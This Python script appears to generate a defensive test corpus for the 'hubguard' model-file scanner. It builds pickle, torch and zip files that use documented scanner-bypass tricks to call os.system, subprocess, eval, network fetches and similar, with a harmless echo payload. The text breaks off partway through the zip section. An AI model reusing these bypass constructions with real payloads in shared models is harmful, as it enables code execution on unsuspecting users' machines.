#!/usr/bin/env python3
"""Writes hubguard's adversarial corpus: one small file per technique for getting a malicious model past a
scanner, each with the verdict hubguard must give it (never "safe").

Standard library only, no network; any Python 3.8+ runs it:
    python3 ejb/src/test/corpus/make_corpus.py
Files go to ejb/src/test/resources/corpus/malicious/ with manifest.tsv (file, expected verdict, technique).

The techniques come from the issue (#13) and from public bypass advisories against picklescan, modelscan and
fickling (2025-2026; GHSA ids in the manifest). Opcodes are written by hand where Python's pickler would not write
them. Payloads are harmless by construction: they run COMMAND ("echo hubguard-corpus") or print. prove_bypass.py
imports this module to build the same files with a payload that leaves a marker file, and loads them with the real
loaders to show that each bypass is real.
"""
import bz2
import collections
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib

P = pickle
COMMAND = "echo hubguard-corpus"
OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "resources", "corpus", "malicious")

# name -> (expected verdict, technique, builder(command) -> bytes, loader for prove_bypass.py or None)
TECHNIQUES = collections.OrderedDict()


def technique(name, expected, what, loader=None):
    def register(build):
        TECHNIQUES[name] = (expected, what, build, loader)
        return build
    return register


# ---------------------------------------------------------------- opcode helpers

def sbu(text):
    raw = text.encode("utf-8", "surrogatepass")
    if len(raw) < 256:
        return P.SHORT_BINUNICODE + bytes([len(raw)]) + raw
    return P.BINUNICODE + struct.pack("<I", len(raw)) + raw


def v0(text):
    """A protocol-0 UNICODE operand, escaped as Python's pickler escapes it."""
    for ch, esc in (("\\", "\\u005c"), ("\0", "\\u0000"), ("\n", "\\u000a"), ("\r", "\\u000d"), ("\x1a", "\\u001a")):
        text = text.replace(ch, esc)
    return P.UNICODE + text.encode("raw-unicode-escape") + b"\n"


def enc(value, proto=4):
    """Opcodes that push value (str, int, bytes, bool, None, tuple, list, dict)."""
    if value is None:
        return P.NONE
    if value is True or value is False:
        return (P.NEWTRUE if value else P.NEWFALSE) if proto >= 2 else (b"I01\n" if value else b"I00\n")
    if isinstance(value, int):
        if proto == 0 or not -2 ** 31 <= value < 2 ** 31:
            return P.INT + str(value).encode() + b"\n"
        return P.BININT + struct.pack("<i", value)
    if isinstance(value, str):
        return v0(value) if proto == 0 else sbu(value)
    if isinstance(value, bytes):
        return P.SHORT_BINBYTES + bytes([len(value)]) + value if len(value) < 256 else P.BINBYTES + struct.pack("<I", len(value)) + value
    if isinstance(value, tuple):
        return P.MARK + b"".join(enc(v, proto) for v in value) + P.TUPLE
    if isinstance(value, list):
        return P.MARK + b"".join(enc(v, proto) for v in value) + P.LIST
    if isinstance(value, dict):
        return P.MARK + b"".join(enc(k, proto) + enc(v, proto) for k, v in value.items()) + P.DICT
    raise TypeError(value)


def import_op(module, name, proto=4):
    if proto >= 4:
        return sbu(module) + sbu(name) + P.STACK_GLOBAL
    return P.GLOBAL + module.encode() + b"\n" + name.encode() + b"\n"


def call(module, name, args=(), proto=4):
    """A pickle that imports module.name and calls it with args."""
    head = P.PROTO + bytes([proto]) if proto >= 2 else b""
    return head + import_op(module, name, proto) + enc(tuple(args), proto) + P.REDUCE + P.STOP


def system(cmd, proto=4, module="os"):
    return call(module, "system", (cmd,), proto)


def run_code(cmd):
    """Python source that runs cmd."""
    return "__import__('os').system(%r)" % cmd


# ---------------------------------------------------------------- dangerous callables missing from deny-lists

def _callables():
    c = COMMAND
    code = run_code(c)
    return [
        ("os", "system", (c,), "os.system"),
        ("posix", "system", (c,), "posix.system (what pickle writes for os.system on Linux)"),
        ("nt", "system", (c,), "nt.system (os.system on Windows)"),
        ("os", "popen", (c,), "os.popen"),
        ("os", "execv", ("/bin/true", ["true"]), "os.execv"),
        ("subprocess", "Popen", ([c],), "subprocess.Popen"),
        ("subprocess", "run", (c,), "subprocess.run"),
        ("subprocess", "check_output", (c,), "subprocess.check_output"),
        ("subprocess", "getoutput", (c,), "subprocess.getoutput"),
        ("runpy", "_run_code", (code, {}), "runpy._run_code"),
        ("runpy", "run_path", ("/dev/null",), "runpy.run_path"),
        ("importlib", "import_module", ("os",), "importlib.import_module"),
        ("builtins", "eval", (code,), "builtins.eval"),
        ("builtins", "exec", (code,), "builtins.exec"),
        ("builtins", "compile", (code, "<x>", "exec"), "builtins.compile"),
        ("builtins", "__import__", ("os",), "builtins.__import__"),
        ("builtins", "open", ("/tmp/hubguard-corpus-open", "w"), "builtins.open (truncates files)"),
        ("builtins", "getattr", ("x", "upper"), "builtins.getattr"),
        ("builtins", "setattr", ("x", "y", 1), "builtins.setattr"),
        ("builtins", "globals", (), "builtins.globals"),
        ("builtins", "vars", (), "builtins.vars"),
        ("builtins", "breakpoint", (), "builtins.breakpoint"),
        ("webbrowser", "open", ("http://example.invalid",), "webbrowser.open"),
        ("shutil", "rmtree", ("/nonexistent/hubguard-corpus",), "shutil.rmtree"),
        ("socket", "create_connection", (("example.invalid", 80),), "socket.create_connection"),
        ("ctypes", "CDLL", (None,), "ctypes.CDLL (GHSA-4675-36f9-wf6r)"),
        ("marshal", "loads", (b"N",), "marshal.loads"),
        ("types", "CodeType", (0,), "types.CodeType"),
        ("types", "FunctionType", (None, {}), "types.FunctionType"),
        ("sys", "exit", (0,), "sys.exit"),
        ("timeit", "timeit", ("pass", code), "timeit.timeit (GHSA-v7x6-rv5q-mhwc)"),
        ("pdb", "run", (code,), "pdb.run"),
        ("cProfile", "run", (code,), "cProfile.run (GHSA-49gj-c84q-6qm9)"),
        ("cProfile", "runctx", (code, None, None), "cProfile.runctx (GHSA-9w88-8rmg-7g2p)"),
        ("profile", "run", (code,), "profile.run (GHSA-7wx9-6375-f5wh)"),
        ("pip", "main", (["--version"],), "pip.main"),
        ("pip._internal.cli.main", "main", (["--version"],), "pip._internal.cli.main.main"),
        ("torch", "load", ("other.pt",), "torch.load (loads another pickle)"),
        ("torch.hub", "load", ("owner/repo", "model"), "torch.hub.load (downloads and runs code)"),
        ("torch.serialization", "load", ("other.pt",), "torch.serialization.load"),
        ("torch.storage", "_load_from_bytes", (b"",), "torch.storage._load_from_bytes (pickle in a pickle)"),
        ("numpy", "load", ("other.npy", None, True), "numpy.load (allow_pickle)"),
        ("functools", "partial", ("x",), "functools.partial"),
        ("functools", "reduce", ("x", []), "functools.reduce"),
        ("operator", "attrgetter", ("system",), "operator.attrgetter"),
        ("operator", "itemgetter", (0,), "operator.itemgetter"),
        ("_operator", "methodcaller", ("system", c), "_operator.methodcaller (GHSA-955r-x9j8-7rhh)"),
        ("itertools", "starmap", ("x", []), "itertools.starmap"),
        ("pty", "spawn", (["/bin/true"],), "pty.spawn (GHSA-vqmv-47xg-9wpr)"),
        ("bdb", "Bdb.run", ({}, code), "bdb.Bdb.run, a dotted name"),
        ("trace", "Trace.run", ({}, code), "trace.Trace.run (GHSA-5qwp-399c-mjwf)"),
        ("code", "InteractiveInterpreter.runcode", ({}, code), "code.InteractiveInterpreter.runcode (GHSA-cj3c-v495-4xqh)"),
        ("doctest", "debug_script", (code, True), "doctest.debug_script (GHSA-fqq6-7vqf-w3fg)"),
        ("ensurepip", "_run_pip", (["--version"],), "ensurepip._run_pip (GHSA-xp4f-hrf8-rxw7)"),
        ("pkgutil", "resolve_name", ("os:system",), "pkgutil.resolve_name (GHSA-vvpj-8cmc-gx39)"),
        ("pydoc", "locate", ("os",), "pydoc.locate (GHSA-84r2-jw7c-4r5q)"),
        ("pydoc", "pipepager", ("", c), "pydoc.pipepager"),
        ("uuid", "_get_command_stdout", ("true",), "uuid._get_command_stdout (GHSA-g38g-8gr9-h9xp)"),
        ("_osx_support", "_read_output", ("true",), "_osx_support._read_output (GHSA-g38g-8gr9-h9xp)"),
        ("_aix_support", "_read_cmd_output", ("true",), "_aix_support._read_cmd_output (GHSA-g38g-8gr9-h9xp)"),
        ("imaplib", "IMAP4_stream", ("true",), "imaplib.IMAP4_stream (GHSA-g38g-8gr9-h9xp)"),
        ("_pyrepl.pager", "pipe_pager", ("text", "true"), "_pyrepl.pager.pipe_pager (GHSA-g38g-8gr9-h9xp)"),
        ("test.support.script_helper", "assert_python_ok", ("-c", "pass"), "test.support.script_helper.assert_python_ok"),
        ("logging", "FileHandler", ("/tmp/hubguard-corpus.log",), "logging.FileHandler (creates files)"),
        ("io", "FileIO", ("/etc/hosts", "r"), "io.FileIO"),
        ("_io", "FileIO", ("/etc/hosts", "r"), "_io.FileIO (io.FileIO as pickle writes it)"),
        ("urllib.request", "urlopen", ("http://example.invalid",), "urllib.request.urlopen"),
        ("http.client", "HTTPSConnection", ("example.invalid",), "http.client.HTTPSConnection"),
        ("ssl", "get_server_certificate", (("example.invalid", 443),), "ssl.get_server_certificate (DNS exfiltration)"),
        ("requests", "get", ("http://example.invalid",), "requests.get"),
        ("aiohttp", "ClientSession", (), "aiohttp.ClientSession"),
        ("venv", "create", ("/tmp/hubguard-corpus-venv",), "venv.create"),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, "true", True, None, None, None, 0),
         "asyncio.unix_events._UnixSubprocessTransport._start (GHSA-q77w-mwjj-7mqx)"),
        ("distutils.file_util", "write_file", ("/tmp/hubguard-corpus.env", ["x"]), "distutils.file_util.write_file (GHSA-m273-6v24-x4m4)"),
        ("numpy.testing._private.utils", "runstring", (code, {}), "numpy.testing._private.utils.runstring"),
        ("numpy.f2py.crackfortran", "getlincoef", (code, []), "numpy.f2py.crackfortran.getlincoef (GHSA-r8g5-cgf2-4m4m)"),
        ("numpy.ctypeslib", "load_library", ("libc", "/lib"), "numpy.ctypeslib.load_library"),
        ("torch.utils.collect_env", "run", (c,), "torch.utils.collect_env.run (GHSA-f745-w6jp-hpxx)"),
        ("torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", c]), "torch._inductor.codecache.compile_file"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", (code, {}, {}), "torch.jit.unsupported_tensor_ops.execWrapper (GHSA-vr7h-p6mm-wpmh)"),
        ("torch.utils.bottleneck.__main__", "run_cprofile", (code, {}), "torch.utils.bottleneck.__main__.run_cprofile (GHSA-4r9r-ch6f-vxmx)"),
        ("torch._dynamo.guards", "GuardBuilder.get", ({}, code), "torch._dynamo.guards.GuardBuilder.get (GHSA-86cj-95qr-2p4f)"),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ({}, code, []),
         "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression (GHSA-f4x7-rfwp-v3xw)"),
        ("torch.utils._config_module", "ConfigModule.load_config", ({}, b""), "torch.utils._config_module.ConfigModule.load_config (GHSA-vv6j-3g6g-2pvj)"),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b""), "torch datapipes decoder.basichandlers (GHSA-h3qp-7fh3-f8h4)"),
        ("torch.utils.cpp_extension", "load_inline", ("x", ""), "torch.utils.cpp_extension.load_inline (compiles native code)"),
        ("idlelib.run", "Executive.runcode", ({}, code), "idlelib.run.Executive.runcode (GHSA-m869-42cg-3xwr)"),
        ("idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, code), "idlelib.pyshell.ModifiedInterpreter.runcommand (GHSA-j343-8v2j-ff7w)"),
        ("idlelib.autocomplete", "AutoComplete.get_entity", ({}, code), "idlelib.autocomplete.AutoComplete.get_entity (GHSA-6w4w-5w54-rjvr)"),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, code), "lib2to3 ParserGenerator.make_label (GHSA-p9w7-82w4-7q8m)"),
        ("cloudpickle.cloudpickle", "_make_function", (None, {}, None, None), "cloudpickle._make_function"),
        ("dill._dill", "_create_code", (), "dill._dill._create_code"),
        ("joblib", "load", ("other.joblib",), "joblib.load"),
        ("pandas", "read_pickle", ("other.pkl",), "pandas.read_pickle"),
        ("platform", "popen", (c,), "platform.popen (Python 2)"),
        ("multiprocessing", "Process", (), "multiprocessing.Process"),
        ("tarfile", "open", ("x.tar",), "tarfile.open (extracts files)"),
        ("zipfile", "ZipFile", ("/tmp/hubguard-corpus.zip", "w"), "zipfile.ZipFile (creates files)"),
        ("shelve", "open", ("x",), "shelve.open (unpickles)"),
        ("yaml", "unsafe_load", ("!!python/object/apply:os.system ['true']",), "yaml.unsafe_load"),
        ("tempfile", "mkstemp", (), "tempfile.mkstemp"),
        ("atexit", "register", ("x",), "atexit.register"),
        ("signal", "signal", (15, 0), "signal.signal"),
        ("weakref", "finalize", ("x", "y"), "weakref.finalize"),
        ("sympy", "sympify", (code,), "sympy.sympify (eval)"),
        ("transformers", "AutoModel.from_pretrained", ("owner/model",), "transformers AutoModel.from_pretrained"),
    ]


def _register_callables():
    for module, name, args, what in _callables():
        fname = "call_%s.%s.pkl" % (module, name)
        loader = "pickle" if (module, name) in (("os", "system"), ("timeit", "timeit")) else None
        technique(fname, "unsafe", "dangerous callable: " + what, loader)(
            (lambda m, n, a: lambda cmd: call(m, n, tuple(cmd if x == COMMAND else (run_code(cmd) if x == run_code(COMMAND) else x)
                                                                for x in a)))(module, name, args))


_register_callables()


@technique("call_builtins.print.pkl", "suspicious", "builtins.print: harmless but not on the allow-list (default deny)")
def t_print(cmd):
    return call("builtins", "print", ("hubguard-corpus",))


@technique("class_sklearn.pkl", "suspicious", "an unknown library class (scikit-learn): not on the allow-list")
def t_sklearn(cmd):
    return P.PROTO + b"\x04" + import_op("sklearn.linear_model._base", "LinearRegression") + P.EMPTY_TUPLE + P.NEWOBJ + P.STOP


@technique("class_main.pkl", "suspicious", "a class of __main__ (the loading script): not on the allow-list")
def t_main(cmd):
    return call("__main__", "Model", ())


@technique("full_module_torch_nn_linear.pt", "suspicious", "a whole nn.Module pickled (torch.nn.modules.linear.Linear): code, not weights")
def t_linear(cmd):
    return P.PROTO + b"\x02" + import_op("torch.nn.modules.linear", "Linear", 2) + P.EMPTY_TUPLE + P.NEWOBJ + P.EMPTY_DICT + P.BUILD + P.STOP


@technique("dotted_ordereddict_fromkeys.pkl", "suspicious", "protocol 4 dotted name through an allowed class (collections.OrderedDict.fromkeys)")
def t_fromkeys(cmd):
    return call("collections", "OrderedDict.fromkeys", (["a"],))


@technique("fullwidth_names.pkl", "suspicious", "fullwidth letters (ｏｓ.ｓｙｓｔｅｍ): not os.system to Python, and not allowed either")
def t_fullwidth(cmd):
    return call("\uff4f\uff53", "\uff53\uff59\uff53\uff54\uff45\uff4d", (cmd,))


# ---------------------------------------------------------------- name resolution

@technique("dotted_posixpath_os_system.pkl", "unsafe", "protocol 4 dotted name: posixpath + os.system is os.system", "pickle")
def t_dotted(cmd):
    return call("posixpath", "os.system", (cmd,))


@technique("dotted_torch_utils_torch_load.pkl", "unsafe", "dotted name through an allowed module: torch._utils + torch.load")
def t_dotted_torch(cmd):
    return call("torch._utils", "torch.load", ("other.pt",))


@technique("dotted_dunder_globals.pkl", "unsafe", "dotted name walking Python internals: copyreg + _reconstructor.__globals__")
def t_dunder(cmd):
    return P.PROTO + b"\x04" + import_op("copyreg", "_reconstructor.__globals__") + P.STOP


@technique("dotted_after_proto_change.pkl", "unsafe", "PROTO 2 then PROTO 4 mid-stream: the dotted name resolves at protocol 4")
def t_proto_change(cmd):
    return P.PROTO + b"\x02" + P.PROTO + b"\x04" + import_op("posixpath", "os.system") + enc((cmd,)) + P.REDUCE + P.STOP


@technique("py2_builtin_eval_p0.pkl", "unsafe", "protocol 0 __builtin__.eval: fix_imports maps it to builtins.eval")
def t_py2_eval(cmd):
    return call("__builtin__", "eval", (run_code(cmd),), 0)


@technique("py2_commands_getoutput_p0.pkl", "unsafe", "protocol 0 commands.getoutput: mapped to subprocess.getoutput")
def t_py2_commands(cmd):
    return call("commands", "getoutput", (cmd,), 0)


@technique("py2_builtin_apply_p2.pkl", "unsafe", "protocol 2 __builtin__.apply")
def t_py2_apply(cmd):
    return call("__builtin__", "apply", ("x", ()), 2)


@technique("sour_pickles_p0.pkl", "unsafe", "Sour Pickles (BlackHat 2011): globals/compile/eval/getattr/apply chain")
def t_sour(cmd):
    return (b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=1'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\n"
            b"tRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'fl'\nltRp104\n0g104\n.")


@technique("string_escape_hex.pkl", "unsafe", "S'o\\x73': STRING operands are escape-decoded (os)", "pickle")
def t_s_hex(cmd):
    return b"S'o\\x73'\nS'sys\\x74em'\n" + P.STACK_GLOBAL + enc((cmd,), 0) + P.REDUCE + P.STOP


@technique("string_escape_octal.pkl", "unsafe", "S'\\157\\163': octal escapes (os)")
def t_s_octal(cmd):
    return b"S'\\157\\163'\nS\"system\"\n" + P.STACK_GLOBAL + enc((cmd,), 0) + P.REDUCE + P.STOP


@technique("unicode_escape.pkl", "unsafe", "V\\u006fs: UNICODE operands are raw-unicode-escape decoded (os)", "pickle")
def t_v_escape(cmd):
    return b"V\\u006fs\nV\\u0073ystem\n" + P.STACK_GLOBAL + enc((cmd,), 0) + P.REDUCE + P.STOP


@technique("unicode_escape_U8.pkl", "unsafe", "V\\U0000006fs: 8-digit escapes")
def t_v_escape8(cmd):
    return b"V\\U0000006fs\nVsystem\n" + P.STACK_GLOBAL + enc((cmd,), 0) + P.REDUCE + P.STOP


@technique("binstring_operands.pkl", "unsafe", "SHORT_BINSTRING and BINSTRING operands for STACK_GLOBAL")
def t_binstring(cmd):
    return P.SHORT_BINSTRING + b"\x02os" + P.BINSTRING + struct.pack("<i", 6) + b"system" + P.STACK_GLOBAL + enc((cmd,)) + P.REDUCE + P.STOP


@technique("binunicode8_operands.pkl", "unsafe", "BINUNICODE8 operands for STACK_GLOBAL")
def t_bu8(cmd):
    return (P.PROTO + b"\x04" + P.BINUNICODE8 + struct.pack("<Q", 2) + b"os" + P.BINUNICODE8 + struct.pack("<Q", 6) + b"system"
            + P.STACK_GLOBAL + enc((cmd,)) + P.REDUCE + P.STOP)


@technique("surrogate_in_string.pkl", "unsafe", "a lone surrogate (surrogatepass UTF-8) in a string before the payload")
def t_surrogate(cmd):
    return P.PROTO + b"\x04" + sbu("\ud800") + P.POP + system(cmd)[2:]


@technique("string_opcode_stack_global.pkl", "unsafe", "STRING operands for STACK_GLOBAL (GHSA-9gvj-pp9x-gcfr)")
def t_string_sg(cmd):
    return b"S'os'\nS'system'\n" + P.STACK_GLOBAL + b"S'ls'\n" + P.TUPLE1 + P.REDUCE + P.STOP


@technique("inst_opcode.pkl", "unsafe", "INST opcode (class and call in one)")
def t_inst(cmd):
    return P.MARK + v0(cmd) + b"ios\nsystem\n" + P.STOP


@technique("obj_opcode.pkl", "unsafe", "OBJ opcode with the callable inside the mark")
def t_obj(cmd):
    return P.MARK + b"cos\nsystem\n" + v0(cmd) + P.OBJ + P.STOP


@technique("newobj_popen.pkl", "unsafe", "NEWOBJ of subprocess.Popen")
def t_newobj(cmd):
    return P.PROTO + b"\x02" + import_op("subprocess", "Popen", 2) + enc(([cmd],), 2) + P.NEWOBJ + P.STOP


@technique("newobj_ex_popen.pkl", "unsafe", "NEWOBJ_EX of subprocess.Popen")
def t_newobj_ex(cmd):
    return P.PROTO + b"\x04" + import_op("subprocess", "Popen") + enc(([cmd],)) + P.EMPTY_DICT + P.NEWOBJ_EX + P.STOP


@technique("global_no_newline_at_end.pkl", "unsafe", "GLOBAL name without a newline at the end: pickle's pure unpickler drops the last byte and imports it")
def t_no_newline(cmd):
    return b"cos\nsystemX"


@technique("global_module_only_at_end.pkl", "unsafe", "GLOBAL antigravity then the end of the data: the pure unpickler imports the module (opening a browser) before failing")
def t_module_only(cmd):
    return b"cantigravity\n"


@technique("text_naming_a_module.txt", "error", "text 'cat\\n' is GLOBAL of module 'at': Python's pure unpickler tries to import it")
def t_text_module(cmd):
    return b"cat\n"


# ---------------------------------------------------------------- stack and memo games

@technique("memoize_uses_memo_size.pkl", "unsafe", "MEMOIZE stores at len(memo), not at a counter: a PUT 7 shifts every slot", "pickle")
def t_memoize(cmd):
    return (P.PROTO + b"\x04" + sbu("decoy") + P.BINPUT + b"\x07" + P.POP + sbu("os") + P.MEMOIZE + P.POP + sbu("system") + P.MEMOIZE
            + P.POP + P.BINGET + b"\x01" + P.BINGET + b"\x02" + P.STACK_GLOBAL + enc((cmd,)) + P.REDUCE + P.STOP)


@technique("memo_overwrite.pkl", "unsafe", "a memo slot written twice: the second value (os) wins")
def t_memo_overwrite(cmd):
    return (P.PROTO + b"\x04" + sbu("collections") + P.BINPUT + b"\x00" + P.POP + sbu("os") + P.BINPUT + b"\x00" + P.POP
            + sbu("OrderedDict") + P.BINPUT + b"\x01" + P.POP + sbu("system") + P.BINPUT + b"\x01" + P.POP
            + P.BINGET + b"\x00" + P.BINGET + b"\x01" + P.STACK_GLOBAL + enc((cmd,)) + P.REDUCE + P.STOP)


@technique("memo_huge_index.pkl", "unsafe", "LONG_BINPUT/LONG_BINGET at index 0xffffffff")
def t_memo_huge(cmd):
    return (P.PROTO + b"\x04" + sbu("os") + P.LONG_BINPUT + b"\xff\xff\xff\xff" + P.POP + sbu("system") + P.LONG_BINPUT + b"\xfe\xff\xff\xff"
            + P.POP + P.LONG_BINGET + b"\xff\xff\xff\xff" + P.LONG_BINGET + b"\xfe\xff\xff\xff" + P.STACK_GLOBAL + enc((cmd,)) + P.REDUCE + P.STOP)


@technique("memo_text_put_get.pkl", "unsafe", "UNICODE + PUT/POP decoys, GET operands (picklescan issue 22, CTF 'Safe Pickle')")
def t_ctf(cmd):
    return (P.UNICODE + b"os\n" + P.PUT + b"2\n" + P.POP + P.UNICODE + b"system\n" + P.PUT + b"3\n" + P.POP
            + P.UNICODE + b"torch\n" + P.PUT + b"0\n" + P.POP + P.UNICODE + b"LongStorage\n" + P.PUT + b"1\n" + P.POP
            + P.GET + b"2\n" + P.GET + b"3\n" + P.STACK_GLOBAL + P.MARK + v0(cmd) + P.TUPLE + P.REDUCE + P.STOP)


@technique("memo_get_unknown_after_payload.pkl", "unsafe", "payload first, then a GET of an unset memo slot (picklescan's KeyError bypass)")
def t_keyerror(cmd):
    return (P.PROTO + b"\x04" + P.GLOBAL + b"os\nsystem\n" + v0(cmd) + P.TUPLE1 + P.REDUCE + P.POP + sbu("os") + P.MEMOIZE
            + P.BINGET + b"\x03" + P.BINGET + b"\x00" + P.STACK_GLOBAL + P.BININT1 + b"\x42" + P.STOP)


@technique("memo_type_confusion_after_payload.pkl", "unsafe", "payload first, then STACK_GLOBAL on an int from the memo (type confusion)")
def t_type_confusion(cmd):
    return (P.PROTO + b"\x04" + P.GLOBAL + b"os\nsystem\n" + v0(cmd) + P.TUPLE1 + P.REDUCE + P.POP + P.BININT + b"\x2a\x00\x00\x00"
            + P.MEMOIZE + sbu("os") + P.MEMOIZE + P.BINGET + b"\x00" + P.BINGET + b"\x01" + P.STACK_GLOBAL + P.BININT1 + b"\x42" + P.STOP)


@technique("memo_get_unknown_only.pkl", "error", "a GET of a memo slot never written, nothing else: Python fails, never safe")
def t_memo_unknown(cmd):
    return P.PROTO + b"\x04" + P.BINGET + b"\x05" + P.STOP


@technique("stack_global_off_by_one.pkl", "unsafe", "STACK_GLOBAL operands separated by a pushed-and-popped decoy")
def t_off_by_one(cmd):
    return P.PROTO + b"\x04" + sbu("os") + sbu("torch") + P.POP + sbu("system") + P.STACK_GLOBAL + enc((cmd,)) + P.REDUCE + P.STOP


@technique("stack_global_pop_mark.pkl", "unsafe", "STACK_GLOBAL operands around a MARK ... POP_MARK of decoys")
def t_pop_mark(cmd):
    return (P.PROTO + b"\x04" + sbu("os") + P.MARK + sbu("collections") + sbu("OrderedDict") + P.POP_MARK + sbu("system")
            + P.STACK_GLOBAL + enc((cmd,)) + P.REDUCE + P.STOP)


@technique("stack_global_dup.pkl", "unsafe", "STACK_GLOBAL module operand produced by DUP")
def t_dup(cmd):
    return P.PROTO + b"\x04" + sbu("os") + P.DUP + P.POP + sbu("system") + P.STACK_GLOBAL + enc((cmd,)) + P.REDUCE + P.STOP


@technique("stack_global_computed_rot13.pkl", "suspicious", "non-constant STACK_GLOBAL operand: _codecs.encode('bf', 'rot13') is 'os'; every import is allowed", "pickle")
def t_rot13(cmd):
    return (P.PROTO + b"\x04" + import_op("_codecs", "encode") + sbu("bf") + sbu("rot13") + P.TUPLE2 + P.REDUCE + sbu("system")
            + P.STACK_GLOBAL + enc((cmd,)) + P.REDUCE + P.STOP)


@technique("ext_opcode.pkl", "suspicious", "EXT1: an import chosen by the copyreg extension registry")
def t_ext(cmd):
    return P.PROTO + b"\x02" + P.EXT1 + b"\x01" + P.STOP


@technique("frame_lies.pkl", "unsafe", "a FRAME whose size lies (readers that trust frames skip the payload)")
def t_frame(cmd):
    body = system(cmd)[2:]
    return P.PROTO + b"\x04" + P.FRAME + struct.pack("<Q", 2) + body


@technique("unknown_opcode_after_payload.pkl", "unsafe", "the payload, then an opcode that does not exist")
def t_unknown_after(cmd):
    return system(cmd)[:-1] + b"\xff" + P.STOP


@technique("unknown_opcode.pkl", "error", "an opcode that does not exist: Python fails, never safe")
def t_unknown(cmd):
    return P.PROTO + b"\x04" + P.NONE + b"\xfe" + P.STOP


@technique("truncated_benign.pkl", "error", "a truncated pickle (no STOP): never safe")
def t_truncated(cmd):
    return pickle.dumps(collections.OrderedDict(a=1), protocol=2)[:-3]


@technique("next_buffer.pkl", "suspicious", "NEXT_BUFFER (out-of-band data no loader supplies)")
def t_next_buffer(cmd):
    return P.PROTO + b"\x05" + P.NEXT_BUFFER + P.STOP


# ---------------------------------------------------------------- several pickles in one stream

@technique("two_pickles_second_malicious.pkl", "unsafe", "a benign first pickle and a malicious second one (modelscan, picklescan malicious6)", "pickle-all")
def t_two(cmd):
    return pickle.dumps(["a", "b", "c"], protocol=2) + system(cmd)


@technique("trailing_garbage.pkl", "suspicious", "bytes after STOP that are not another pickle")
def t_trailing(cmd):
    return pickle.dumps({"a": 1}, protocol=2) + b"\n\n\t\tgarbage"


@technique("none_flood.pkl.bz2", "unsafe", "20 million NONE opcodes, then the payload (bz2): the walk must be cheap and complete")
def t_flood(cmd):
    return bz2.compress(P.MARK + P.NONE * 20_000_000 + P.POP_MARK + system(cmd, proto=0))


def legacy(first, main, keys=b"\x80\x02]q\x00.", rest=b""):
    return first + pickle.dumps(1001, protocol=2) + pickle.dumps({"protocol_version": 1001}, protocol=2) + main + keys + rest


MAGIC = 0x1950A86A20F9469CFC6C


@technique("legacy_torch_magic_via_eval.pt", "unsafe", "legacy torch file whose magic number comes from eval() (picklescan GHSA-9gvj-pp9x-gcfr)", "torch")
def t_legacy_eval(cmd):
    return legacy(call("builtins", "eval", (hex(MAGIC),), 2), system(cmd, 2))


@technique("legacy_torch_malicious_object.pt", "unsafe", "legacy torch file (five pickles): the fourth runs the payload", "torch")
def t_legacy_main(cmd):
    return legacy(pickle.dumps(MAGIC, protocol=2), system(cmd, 2))


@technique("legacy_torch_malicious_keys.pt", "unsafe", "legacy torch file: the fifth pickle (storage keys) runs the payload")
def t_legacy_keys(cmd):
    return legacy(pickle.dumps(MAGIC, protocol=2), pickle.dumps({}, protocol=2), system(cmd, 2))


@technique("legacy_torch_trailing_pickle.pt", "unsafe", "legacy torch file with a pickle after its (empty) storages")
def t_legacy_trailing(cmd):
    return legacy(pickle.dumps(MAGIC, protocol=2), pickle.dumps({}, protocol=2), rest=system(cmd, 2))


# ---------------------------------------------------------------- zips

def local_header(name, data, method=0, flags=0, crc=None, csize=None, usize=None, local_name=None):
    raw = (local_name if local_name is not None else name).encode()
    crc = zlib.crc32(data) if crc is None else crc
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x21, crc & 0xFFFFFFFF,
                       len(data) if csize is None else csize, len(data) if usize is None else usize, len(raw), 0) + raw + data


def central_record(name, data, offset, method=0, flags=0, crc=None, usize=None):
    raw = name.encode()
    crc = zlib.crc32(data) if crc is None else crc
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, 0, 0x21, crc & 0xFFFFFFFF, len(data),
                       len(data) if usize is None else usize, len(raw), 0, 0, 0, 0, 0, offset) + raw


def build_zip(entries, prefix=b"", hidden=(), local_overrides=None):
    """entries: (name, data, dict of central options); hidden: (name, data) written as local entries only."""
    out = bytearray(prefix)
    central = bytearray()
    for name, data in hidden:
        out += local_header(name, data)
    for name, data, opts in entries:
        offset = len(out) - len(prefix) if opts.get("relative", True) else len(out)
        local = dict(opts.get("local", {}))
        out += local_header(name, data, method=local.get("method", opts.get("method", 0)), flags=local.get("flags", opts.get("flags", 0)),
                            crc=local.get("crc", opts.get("crc")), local_name=local.get("name"))
        central += central_record(name, data, offset, method=opts.get("method", 0), flags=opts.get("flags", 0), crc=opts.get("crc"))
    cd_offset = len(out) - len(prefix)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_offset, 0)
    return bytes(out)


def torch_like(pkl, data_name="archive/data.pkl"):
    return [("archive/version", b"3\n", {}), (data_name, pkl, {}), ("archive/data/0", b"\x00" * 16, {})]


BENIGN = pickle.dumps(collections.OrderedDict(w=1), protocol=2)


@technique("zip_torch_malicious.pt", "unsafe", "torch zip checkpoint whose data.pkl runs the payload", "torch")
def t_zip_torch(cmd):
    return build_zip(torch_like(system(cmd, 2)))


@technique("zip_decoy_local_entry.pt", "unsafe", "a decoy local entry hides archive/data.pkl from readers that walk local headers", "torch")
def t_zip_decoy(cmd):
    return build_zip(torch_like(system(cmd, 2)), hidden=[("archive/data.pkl", BENIGN)])


@technique("zip_local_name_differs.zip", "unsafe", "local header names datap.kl, the central directory data.pkl (picklescan malicious1_central_directory)")
def t_zip_name(cmd):
